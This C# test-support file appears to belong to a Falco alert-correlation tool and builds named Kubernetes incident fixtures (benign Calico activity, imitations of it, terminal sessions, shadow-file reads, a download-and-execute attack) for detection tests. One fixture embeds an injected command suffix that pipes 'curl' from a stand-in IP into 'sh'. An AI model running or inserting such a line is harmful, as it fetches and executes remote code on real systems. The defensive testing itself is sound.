using FalcoStreamer.Alerts;
using FalcoStreamer.Correlation;
using FalcoStreamer.Enrichment;
using FalcoStreamer.Knowledge;

namespace FalcoStreamer.Tests.Support;

/// <summary>The situations whose reports a person has read: recorded alerts, and the one it all began with.</summary>
internal static class ReportSituations
{
    private static readonly IReadOnlyList<FalcoAlert> Http = Recordings.HttpAlerts();

    private static readonly Dictionary<string, Func<Incident>> All = new(StringComparer.Ordinal)
    {
        ["calico-benign"] = () => SomeIncidents.Calico(),
        ["calico-imitated-with-suffix"] = CalicoWithSuffix,
        ["calico-imitated-in-another-pod"] = CalicoElsewhere,
        ["entrypoint-two-rules"] = Entrypoint,
        ["token-looked-at"] = Token,
        ["terminal-in-container"] = Terminal,
        ["download-and-execute"] = Sequence,
        ["host-reads-shadow"] = () => SomeIncidents.Of(SomeIncidents.Node(), SomeIncidents.Undetermined("the terminal (proc.tty)", "who logged in (user.loginuid)"), Http[89]),
        ["sandbox-of-unknown-pod"] = () => SomeIncidents.Of(SomeIncidents.Unresolved(), SomeIncidents.Undetermined("the pod behind the container"), Http[81]),
        ["falco-about-itself"] = () => SomeIncidents.Of(SomeIncidents.Node() with { ContainerId = null }, null, Http[245]),
        ["deleted-pod"] = DeletedPod,
        ["exec-with-user"] = () => Exec(isAudited: true),
        ["exec-without-audit"] = () => Exec(isAudited: false),
        ["audit-of-a-secret"] = () => Judged(SomeAudits.Of(
            "k8s_audit",
            "K8s Secret Get Successfully",
            fields: [("ka.user.name", "alice@example.com"), ("ka.target.resource", "secrets"), ("ka.target.namespace", "shop"), ("ka.target.name", "db-password"), ("ka.response.code", "200")])),
        ["plugin-source"] = () => Judged(SomeAudits.Of("okta", "Removed MFA Factor from User", fields: [("okta.actor.name", "alice"), ("okta.target.user.name", "bob")])),
        ["invalid-utf8"] = () => SomeIncidents.Of(
            SomeIncidents.Node(), null, FalcoAlert.FromProtobuf(Recordings.Messages("falco/grpc-utf8-0.43.1.raw.hex")[1])),
    };

    public static TheoryData<string> Names => [.. All.Keys];

    public static Incident Named(string name) => All[name]();

    /// <summary>A terminal as the shipped knowledge judges it, with or without the request for it in the audit log.</summary>
    private static Incident Exec(bool isAudited)
    {
        var pod = SomePods.Subject(SomePods.Pod(SomePods.Container() with { StartedAt = Some.Time + TimeSpan.FromHours(-1) }), new Workload("Deployment", "web"));
        var shell = Some.Alert(
            "Terminal shell in container", Priority.Notice, fields: [("proc.name", "bash"), ("proc.cmdline", "bash"), ("proc.pname", "containerd-shim"), ("proc.tty", 34816)]);
        var audit = SomeAudits.Exec(
            Some.Time + TimeSpan.FromSeconds(-1),
            ("ka.uri.param[command]", "bash"), ("ka.user.groups", "(dev,system:authenticated)"), ("ka.sourceips", "(10.0.0.7)"), ("ka.useragent", "kubectl/v1.33.1"));
        var correlator = new Correlator(BehaviourLibrary.Load(null), new CorrelationOptions());
        List<IncidentChange> changes = [];
        if (isAudited)
        {
            correlator.Add(audit, pod with { Source = "k8s_audit" }, audit.Time, changes);
        }

        correlator.Add(shell, pod, shell.Time, changes);
        return changes[^1].Incident;
    }

    private static Incident Judged(FalcoAlert alert)
    {
        List<IncidentChange> changes = [];
        var subject = PluginSubjects.Of(alert, AuditRequest.From(alert));
        new Correlator(BehaviourLibrary.Load(null), new CorrelationOptions()).Add(alert, subject, alert.Time, changes);
        return changes[^1].Incident;
    }

    private static Incident CalicoWithSuffix()
    {
        var judgement = SomeIncidents.Imitates(
            SomeIncidents.CalicoBehaviour(), new Evidence("The command goes on behind Felix's own: \"; curl -s http://203.0.113.9/x | sh\"", 10)) with
        {
            For = [new("Its parent is calico-node", 3), new("The pod belongs to DaemonSet calico-node", 2)],
        };
        return SomeIncidents.Of(SomeIncidents.CalicoPod(), judgement, SomeIncidents.CalicoAlert('B', 1, " || true; curl -s http://203.0.113.9/x | sh"));
    }

    private static Incident CalicoElsewhere()
    {
        var judgement = SomeIncidents.Imitates(
            SomeIncidents.CalicoBehaviour(),
            new("The image is lab.local/busybox, not Calico's", 6),
            new("No DaemonSet owns the pod", 6)) with
        { Unseen = ["the parent process (proc.pname)"] };
        var pod = SomeIncidents.PodFacts("lab", "crash");
        return SomeIncidents.Of(
            SomeIncidents.Pod(SomeIncidents.Container() with { Image = "lab.local/busybox:1.35" }, pod) with { ContainerId = "5ae3bfc99961" }, judgement, Http[1]);
    }

    private static Incident Entrypoint()
    {
        var behaviour = new Behaviour
        {
            Id = "container-entrypoint-shell",
            Title = "The container's own command is a shell script",
            Nature = BehaviourNature.Harmless,
            Headline = "The shell is container {container}'s own start command, as its specification says",
            Why = "The specification of {owner} starts container {container} with this command, so the runtime executes it each time the container starts.",
            Actions = ["Nothing has to be done here. Whoever may change {owner} decides what runs in it: keep that to few people."],
            Commands = ["kubectl -n {namespace} get {owner} -o yaml", "kubectl -n {namespace} rollout history {owner}"],
            ExceptionFields = ["container.image.repository", "k8s.ns.name", "proc.name", "proc.cmdline"],
        };
        var subject = SomeIncidents.Pod(
            SomeIncidents.Container(new SecurityFacts { RunAsUser = 1000, AllowPrivilegeEscalation = false }) with { Image = "lab.local/busybox:1.35" },
            SomeIncidents.PodFacts("lab", "dep-767fd56ff5-csd6p"),
            new Workload("Deployment", "dep")) with
        { ContainerId = "d415d36e601c" };
        return SomeIncidents.Of(
            subject,
            SomeIncidents.Matches(behaviour, 0.94, new("The command line equals the container's command in its specification", 6), new("It started within a second of the container", 2)),
            Http[82],
            Http[83]);
    }

    private static Incident Token() =>
        SomeIncidents.Of(
            SomeIncidents.Pod(),
            SomeIncidents.Undetermined("the parent process (proc.pname)", "whether it was entered from outside (proc.vpid, proc.pvpid)"),
            Http[2]);

    private static Incident Terminal()
    {
        var behaviour = new Behaviour
        {
            Id = "kubectl-exec-interactive",
            Title = "Somebody has opened a session in the container through the API server",
            Nature = BehaviourNature.Unattributed,
            Headline = "Somebody opened a terminal in {subject}; the audit log says who",
            Why = "A terminal is attached and the container runtime started the shell, which is what kubectl exec, k9s or Lens do. A stolen kubeconfig looks the same.",
            Actions = ["Look into the API server's audit log for pods/exec on {namespace}/{pod} at {time}: its user and source address decide this."],
            Commands = ["kubectl -n {namespace} get rolebindings,clusterrolebindings -o wide"],
            Attack = ["T1609"],
        };
        return SomeIncidents.Of(
            SomeIncidents.CalicoPod() with { ContainerId = "1a95d5d59b2e", Name = "calico-node-x7k2p", Owner = null, Image = "registry.lab.local:5000/platform/busybox:1.36" },
            SomeIncidents.Matches(behaviour, 0, new("A terminal is attached (proc.tty is 34816)", 3), new("Its parent is containerd-shim", 3)) with { Unseen = ["who is logged in (the API server's audit log)"] },
            Http[215]);
    }

    private static Incident Sequence()
    {
        var behaviour = new Behaviour
        {
            Id = "attack-shell-download-exec",
            Title = "A shell brings in a program and starts it",
            Nature = BehaviourNature.Attack,
            Headline = "A program that is not part of the image was brought into {subject} and started",
            Why = "A shell, a decoded payload and a program from outside the image within minutes in one container is how an intruder works, and hardly how a workload does.",
            Actions = ["Cordon {node}, keep {namespace}/{pod} for the investigation, then delete it.", "Replace the token of service account {serviceAccount}."],
            Commands = ["kubectl -n {namespace} get pod {pod} -o yaml"],
            Attack = ["T1059", "T1105"],
        };
        FalcoAlert[] alerts = [Http[162], Http[168], Http[172]];
        var subject = SomeIncidents.CalicoPod() with { ContainerId = "1a95d5d59b2e", Name = "calico-node-x7k2p", Image = "registry.lab.local:5000/platform/busybox:1.36" };
        return SomeIncidents.Of(
            subject,
            SomeIncidents.Matches(behaviour, 0.97, new Evidence("Three steps of the sequence in one container", 10)) with
            {
                Story =
                [
                    new(Http[162].Time, "A shell linked sensitive files", Http[162].Rule, Http[162].Id, subject),
                    new(Http[168].Time, "A program that is not in the image was executed", Http[168].Rule, Http[168].Id, subject),
                    new(Http[172].Time, "A payload was decoded", Http[172].Rule, Http[172].Id, subject),
                ],
            },
            alerts);
    }

    private static Incident DeletedPod() =>
        SomeIncidents.Of(
            SomeIncidents.Pod(
                SomeIncidents.Container(SomeIncidents.Restricted() with { ReadOnlyRootFilesystem = null }),
                SomeIncidents.PodFacts("shop", "worker-28571234-abcde"),
                new Workload("CronJob", "worker")) with
            { Resolution = Resolution.Deleted },
            null,
            Http[206]);
}
